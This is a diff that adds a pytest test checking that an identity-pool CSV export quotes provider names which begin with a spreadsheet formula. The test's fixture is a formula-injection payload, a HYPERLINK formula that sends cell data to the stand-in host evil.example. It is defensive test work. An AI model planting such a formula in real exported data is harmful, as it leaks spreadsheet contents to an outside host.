@@ -272,3 +272,16 @@ def test_an_unknown_format_or_pool_starts_nothing(admin):
     with pytest.raises(export.ExportRefused, match="ResourceNotFoundException"):
         start("us-east-1:0a1b2c3d-0000-4000-8000-000000000001", admin)
     assert not Job.objects.filter(kind=Kind.EXPORT).exists()
+
+
+def test_a_provider_key_that_starts_a_formula_is_quoted_in_the_csv(cognito, make_pool, admin):
+    # The service accepts any provider name as a SupportedLoginProviders key; a spreadsheet
+    # would run this one as a live link if the cell were written as is.
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    pool_id = make_pool("formula", SupportedLoginProviders={formula: "app-id"})
+    signed_in = cognito.get_id(IdentityPoolId=pool_id, Logins={formula: "user-1"})["IdentityId"]
+
+    job = finish(start(pool_id, admin))
+
+    rows = {record["identity_id"]: record for record in records(job)}
+    assert rows[signed_in]["login_providers"] == "'" + formula
